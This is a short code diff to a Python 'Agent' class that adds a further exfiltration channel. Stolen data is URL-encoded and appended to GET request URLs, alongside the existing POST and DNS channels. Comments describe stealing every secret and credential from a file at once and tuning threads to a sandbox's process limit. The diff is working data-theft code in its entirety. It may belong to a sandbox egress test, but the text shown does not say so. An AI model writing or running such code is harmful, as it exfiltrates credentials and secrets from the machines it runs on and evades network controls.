@@ -227,6 +227,8 @@ class Agent:
             jobs.append(lambda n=name: self.dns(probe, n))
         for url in step["urls"]:
             jobs.append(lambda u=url: self.http(probe, "POST", u, data))
+        for url in step.get("get_urls", []):  # what was read, in the URL of a download
+            jobs.append(lambda u=url: self.http(probe, "GET", u + urllib.parse.quote(data, safe=""), None))
         # few threads per stolen file: every secret and credential is stolen at once, and the
         # sandbox's pids limit (256) counts threads
         with ThreadPoolExecutor(max_workers=STEAL_THREADS) as pool:
